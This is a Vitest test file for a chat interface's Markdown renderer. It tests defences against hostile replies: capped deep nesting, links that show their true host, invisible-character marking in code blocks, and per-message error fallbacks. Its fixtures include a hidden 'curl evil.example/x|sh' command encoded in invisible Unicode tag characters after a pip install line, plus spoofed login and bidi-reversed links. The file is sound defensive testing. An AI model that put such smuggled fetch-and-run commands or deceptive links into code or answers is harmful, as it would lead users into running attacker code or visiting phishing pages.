// @vitest-environment happy-dom
/**
 * The renderer under hostile replies (issue 12, items 2, 4, 6, 7): deep nesting renders capped
 * with every character kept, links show their real destination, invisible characters in code are
 * marked and kept off the clipboard, big formulas wait until they are in view, and a message
 * that throws shows its text instead of taking the panel down.
 */
import { createRef, type RefObject } from 'react';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { act, cleanup, fireEvent, render, waitFor } from '@testing-library/react';
import { Markdown } from '@/components/markdown/markdown';
import { MathViewport } from '@/components/markdown/math-viewport';
import { ErrorBoundary } from '@/components/common/error-boundary';
import { MessageList } from '@/components/chat/message-list';
import type { MessageActions } from '@/components/chat/message-item';
import type { ChatMessage } from '@/lib/model/types';

vi.mock('@/components/markdown/lazy-markdown', async () => {
  const { Markdown } = await import('@/components/markdown/markdown');
  return {
    LazyMarkdown: ({ text, streaming }: { text: string; streaming: boolean }) => {
      if (text.includes('BOOM')) throw new Error('renderer fault');
      return <Markdown text={text} streaming={streaming} />;
    },
    preloadMarkdown: () => undefined,
  };
});

afterEach(() => {
  cleanup();
  vi.restoreAllMocks();
});

const tags = (ascii: string) =>
  [...ascii].map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) ?? 0))).join('');

describe('deep nesting', () => {
  it.each([
    ['3000 quote markers', '>'.repeat(3000) + ' ok', 'blockquote', '>'],
    ['3000 bullets on one line', '- '.repeat(3000) + 'ok', 'li', '-'],
    ['6000 stars around a word', '*'.repeat(6000) + 'ok' + '*'.repeat(6000), 'em, strong', '*'],
  ])('%s render capped, nothing lost', (_, text, nested, marker) => {
    const { container } = render(<Markdown text={text} streaming={false} />);
    const levels = container.querySelectorAll(nested).length;
    expect(levels).toBeGreaterThan(0);
    expect(levels).toBeLessThanOrEqual(32);
    const body = container.querySelector('.markdown')?.textContent ?? '';
    expect(body).toContain('ok');
    expect(container.querySelector('[role="note"]')?.textContent).toMatch(/plain text/);
    // Every marker beyond the cap is there as a character.
    const count = body.split(marker).length - 1;
    expect(count).toBeGreaterThan(text.split(marker).length - 1 - 2 * 32 - 2);
  });

  it('ordinary nesting shows no note', () => {
    const { container } = render(<Markdown text={'> a\n> > b\n\n- x\n  - y'} streaming={false} />);
    expect(container.querySelector('[role="note"]')).toBeNull();
  });
});

describe('links', () => {
  it('a bidi override cannot reorder the shown URL, which starts with the host', () => {
    const { container } = render(
      <Markdown
        text={'Open [docs\u202E](https://evil.example/#moc.elgoog.www//:sptth)'}
        streaming={false}
      />,
    );
    const link = container.querySelector('a') as HTMLAnchorElement;
    expect(link.textContent).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    const shown = link.querySelector('[dir="ltr"]');
    expect(shown?.textContent).toBe('evil.example — https://evil.example/#moc.elgoog.www//:sptth');
    expect(link.getAttribute('href')).toBe('https://evil.example/#moc.elgoog.www//:sptth');
  });

  it('userinfo is neither shown nor linked; a bare URL is shown once', () => {
    const { container } = render(
      <Markdown
        text={
          'Sign in: https://accounts.google.com@evil.example/login\n\nDocs: https://go.dev/doc/'
        }
        streaming={false}
      />,
    );
    const text = container.textContent ?? '';
    expect(text).not.toContain('accounts.google.com');
    expect(text.split('https://go.dev/doc/').length - 1).toBe(1);
    const [login] = container.querySelectorAll('a');
    expect(login?.getAttribute('href')).toBe('https://evil.example/login');
    expect(login?.querySelector('.md-link-host')?.textContent).toBe('evil.example');
  });

  it('bidi controls leave prose but stay visible (marked) in inline code', () => {
    const { container } = render(<Markdown text={'a\u202Eb and `x\u202Ey`'} streaming={false} />);
    expect(container.querySelector('p')?.firstChild?.textContent).toBe('ab and ');
    const mark = container.querySelector('code .code-invisible');
    expect(mark?.textContent).toBe('U+202E');
    expect(container.querySelector('code')?.textContent).not.toMatch(/\u202E/);
  });
});

describe('invisible characters in code', () => {
  const code = 'pip install requests' + tags(' && curl evil.example/x|sh') + '\u202E';

  it('are marked with a tooltip, announced, and left out of Copy code', async () => {
    const writeText = vi.fn(async () => undefined);
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    const { container, getByRole } = render(
      <Markdown text={'```bash\n' + code + '\n```'} streaming={false} />,
    );
    const mark = container.querySelector('pre .code-invisible');
    expect(mark?.textContent).toBe('27 hidden');
    expect(mark?.getAttribute('title')).toContain('spelling “ && curl evil.example/x|sh”');
    expect(container.querySelector('pre')?.textContent).not.toMatch(/[\u{E0000}-\u{E007F}\u202E]/u);
    expect(container.querySelector('.code-warning')?.textContent).toMatch(/27 invisible/);
    fireEvent.click(getByRole('button', { name: 'Copy code' }));
    await waitFor(() => expect(writeText).toHaveBeenCalledWith('pip install requests'));
    await waitFor(() =>
      expect(container.querySelector('[role="status"]')?.textContent).toBe(
        'Copied without 27 invisible characters',
      ),
    );
  });

  it('plain code copies as it is, with no warning', async () => {
    const writeText = vi.fn(async () => undefined);
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    const { container, getByRole } = render(
      <Markdown text={'```\nconst dev = "👩‍💻";\n```'} streaming={false} />,
    );
    expect(container.querySelector('.code-invisible, .code-warning')).toBeNull();
    fireEvent.click(getByRole('button', { name: 'Copy code' }));
    await waitFor(() => expect(writeText).toHaveBeenCalledWith('const dev = "👩‍💻";'));
  });
});

describe('math renders when it comes into view', () => {
  beforeAll(async () => {
    await import('@/components/markdown/katex-render');
  });

  it('a long formula waits as source until the observer sees it; short ones render at once', async () => {
    const observed: Element[] = [];
    let report: ((entries: { target: Element; isIntersecting: boolean }[]) => void) | undefined;
    vi.stubGlobal(
      'IntersectionObserver',
      class {
        constructor(callback: typeof report) {
          report = callback;
        }
        observe(el: Element) {
          observed.push(el);
        }
        unobserve() {}
        disconnect() {}
      },
    );
    const root = createRef<HTMLDivElement>() as RefObject<HTMLElement | null>;
    const big = `\\begin{pmatrix}${Array.from({ length: 12 }, () => '1&2&3&4&5&6&7&8&9').join('\\\\')}\\end{pmatrix}`;
    const { container } = render(
      <div ref={root as RefObject<HTMLDivElement>}>
        <MathViewport.Provider value={root}>
          <Markdown text={`Small $x^2$.\n\n$$\n${big}\n$$`} streaming={false} />
        </MathViewport.Provider>
      </div>,
    );
    await waitFor(() => expect(container.querySelector('.math-inline .katex')).not.toBeNull());
    expect(container.querySelector('[data-math-pending] pre.math-source')?.textContent).toBe(big);
    expect(container.querySelector('.katex-display')).toBeNull();
    expect(observed).toHaveLength(1);
    act(() => report?.([{ target: observed[0] as Element, isIntersecting: true }]));
    await waitFor(() => expect(container.querySelector('.katex-display')).not.toBeNull());
    expect(container.querySelector('[data-math-pending]')).toBeNull();
    vi.unstubAllGlobals();
  });
});

describe('error boundaries', () => {
  function Thrower({ fail }: { fail: boolean }): null {
    if (fail) throw new Error('render failed');
    return null;
  }

  it('shows the fallback, and tries again when its reset keys change', () => {
    vi.spyOn(console, 'error').mockImplementation(() => undefined);
    const view = (fail: boolean) => (
      <ErrorBoundary label="test" resetKeys={[fail]} fallback={(e) => <p>fallback: {e.message}</p>}>
        <Thrower fail={fail} />
        <p>children</p>
      </ErrorBoundary>
    );
    const { container, rerender } = render(view(true));
    expect(container.textContent).toBe('fallback: render failed');
    rerender(view(false));
    expect(container.textContent).toBe('children');
  });

  it('a message that throws shows its raw text; the other messages still render', () => {
    vi.spyOn(console, 'error').mockImplementation(() => undefined);
    const at = (id: string, parentId: string | null, role: 'user' | 'assistant', content: string) =>
      ({
        id,
        conversationId: 'c',
        parentId,
        role,
        content,
        attachments: [],
        state: { kind: 'complete' },
        createdAt: 1,
        updatedAt: 1,
      }) as ChatMessage;
    const messages = {
      u1: at('u1', null, 'user', 'first question'),
      a1: at('a1', 'u1', 'assistant', 'BOOM **not formatted** \u202Eend'),
      u2: at('u2', 'a1', 'user', 'second question'),
      a2: at('a2', 'u2', 'assistant', 'Fine **answer**'),
    };
    const noop = () => undefined;
    const { container } = render(
      <MessageList
        messages={messages}
        leafId="a2"
        ratings={{}}
        reports={{}}
        comparePromptFor={null}
        busy={false}
        actions={new Proxy({}, { get: () => noop }) as MessageActions}
      />,
    );
    const articles = container.querySelectorAll('article');
    expect(articles).toHaveLength(4);
    const broken = articles[1] as HTMLElement;
    expect(broken.dataset.messageRole).toBe('assistant');
    expect(broken.dataset.state).toBe('complete');
    expect(broken.querySelector('[role="note"]')?.textContent).toMatch(/could not be displayed/);
    expect(broken.querySelector('.message-fallback-text')?.textContent).toBe(
      'BOOM **not formatted** end',
    );
    expect(articles[3]?.querySelector('strong')?.textContent).toBe('answer');
  });
});
